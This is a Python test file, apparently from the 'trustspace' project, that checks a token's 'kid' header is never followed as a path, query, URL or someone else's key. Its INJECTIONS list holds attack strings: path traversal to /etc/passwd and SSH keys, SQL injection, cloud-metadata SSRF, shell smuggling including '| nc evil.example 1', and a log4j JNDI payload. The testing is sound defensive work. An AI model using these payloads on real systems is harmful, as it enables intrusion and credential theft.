"""`kid` is a word and never a path, a query or an address: nothing is opened, asked or loaded because of it."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.core.identity.test_tokens import check, forge
from tests.services.spaces import space
from tests.threats.forging import asked, by_hand, call, controlled, entries, watched
from trustspace.core.canon import canonical, loads_object
from trustspace.core.errors import InvalidInput, Unauthenticated
from trustspace.core.identity.did import read_document
from trustspace.core.identity.tokens import claimed

PLAIN = re.compile(r"[A-Za-z0-9_.:#%-]{1,512}")
INJECTIONS = [
    "../../../../etc/passwd", "/dev/null", "..\\..\\win.ini", "file:///etc/passwd", "~/.ssh/id_rsa", "keys/signing.pem",
    "' OR '1'='1", "x' UNION SELECT 'key' --", "1; DROP TABLE tokens", '" or ""="', "x'/*", "0 or 1=1",
    "https://evil.example/key", "http://169.254.169.254/latest/meta-data", "gopher://evil.example:70/_x", "//evil/x",
    "$(id)", "`id`", "; cat /etc/passwd", "| nc evil.example 1", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n",
    "a\x00b", "a\r\nX-Injected: 1", "did:web:evil.example#key", "did:web:bus.example#../x", "\u202ekey", "ключ",
    "a" * 513,
]  # fmt: skip


NEARLY = st.from_regex(r"[A-Za-z0-9_.:#%/'\\-]{1,80}", fullmatch=True)


@given(st.text(max_size=60) | NEARLY | st.sampled_from(INJECTIONS))
@settings(max_examples=500)
def test_any_name_of_a_key_touches_nothing(kid: str) -> None:
    token = forge(head={"kid": kid})
    with watched() as seen:
        try:
            named = claimed(token).kid
            assert check(token).jti
        except Unauthenticated:
            named = None
    assert seen.events == []
    assert named == (kid if PLAIN.fullmatch(kid) else None)


@pytest.mark.anyio
async def test_no_name_of_a_key_is_followed_from_an_endpoint() -> None:
    async with space(approval="manual") as s:
        for entry in await controlled(s):
            for kid in INJECTIONS:
                token = by_hand(s, entry, head={"kid": kid})
                with watched() as seen, asked(s) as urls:
                    answer = await call(s, entry, token)
                assert answer.status == (entry.good if PLAIN.fullmatch(kid) else 401), (kid, entry.path)
                assert urls == []
                assert [event for event in seen.events if not event.startswith("import")] == [], kid


@pytest.mark.anyio
async def test_the_name_of_somebody_elses_key_does_not_choose_it() -> None:
    """The key is the sender's own: a `kid` of another participant, or of none, is no more than a word."""
    async with space(approval="manual") as s:
        entry = (await entries(s))[0]
        kid = f"{s.bus.did}#key"
        stolen = by_hand(s, entry, head={"kid": kid}, sign=s.bus.engine.key.sign)
        assert (await call(s, entry, stolen)).status == 401
        assert (await call(s, entry, by_hand(s, entry, head={"kid": kid}))).status == entry.good, "the control"


@pytest.mark.anyio
async def test_two_keys_of_one_name_are_none() -> None:
    async with space() as s:
        document = await s.world.network.peer().request("GET", "https://bus.example/.well-known/did.json")
        assert read_document(document.body, s.bus.did).keys, "the control"
        members = loads_object(document.body)
        [method] = members["verificationMethod"]
        short: dict[str, Any] = {**method, "id": "#" + method["id"].partition("#")[2]}
        for twice in ([method, method], [method, short], [short, method]):
            with pytest.raises(InvalidInput, match="stands twice"):
                read_document(canonical({**members, "verificationMethod": twice}), s.bus.did)
